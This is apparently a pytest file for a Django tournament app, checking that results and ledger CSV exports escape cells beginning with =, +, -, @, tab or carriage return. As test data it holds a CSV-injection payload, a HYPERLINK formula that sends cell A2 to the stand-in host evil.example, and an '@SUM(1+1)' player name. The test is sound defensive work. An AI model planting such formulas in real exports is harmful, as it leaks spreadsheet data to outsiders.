"""The organizers' CSV exports cannot carry a spreadsheet formula (CSV injection).

A tournament's name is free text and its organizer is not the only one who exports it
(anyone with the view permission may): a name such as ``=HYPERLINK(...)`` used to go into
the results and ledger files as it was, and a spreadsheet runs a cell starting with
= + - @ as a formula. Such cells now start with an apostrophe; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.test import Client

from tests.conftest import make_player
from tests.tournaments.conftest import bot_players, enter, make_tournament
from tournaments import services
from tournaments.admin import spreadsheet_safe

pytestmark = pytest.mark.django_db
CHANGELIST = "/admin/tournaments/tournament/"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2, "Results")'


@pytest.fixture
def organizer_client() -> Client:
    organizer = make_player("olga", "Olga", is_staff=True)
    organizer.groups.add(Group.objects.get(name="Tournament organizers"))
    client = Client()
    client.force_login(organizer, backend="django.contrib.auth.backends.ModelBackend")
    return client


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("kind", ["results", "ledger"])
def test_no_exported_cell_starts_a_formula(organizer_client, kind):
    t = make_tournament(name=FORMULA)
    # a name the sign-up form refuses, as an older or imported account might hold it
    odd = make_player("odd", "@SUM(1+1)")
    enter(t, [odd, *bot_players(3)])
    services.start(tournament_id=t.pk)
    rows = _rows(organizer_client.get(f"{CHANGELIST}{t.pk}/{kind}.csv"))
    assert len(rows) > 1
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if kind == "results":
        assert "'@SUM(1+1)" in cells


def test_numbers_and_plain_text_are_left_as_they_are():
    row = ["Sunday cup", "2026-01-02", 1, -40, 12.5, "", "-3", "+1", "@x", "\tx"]
    assert spreadsheet_safe(row) == [
        "Sunday cup", "2026-01-02", 1, -40, 12.5, "", "'-3", "'+1", "'@x", "'\tx",
    ]  # fmt: skip
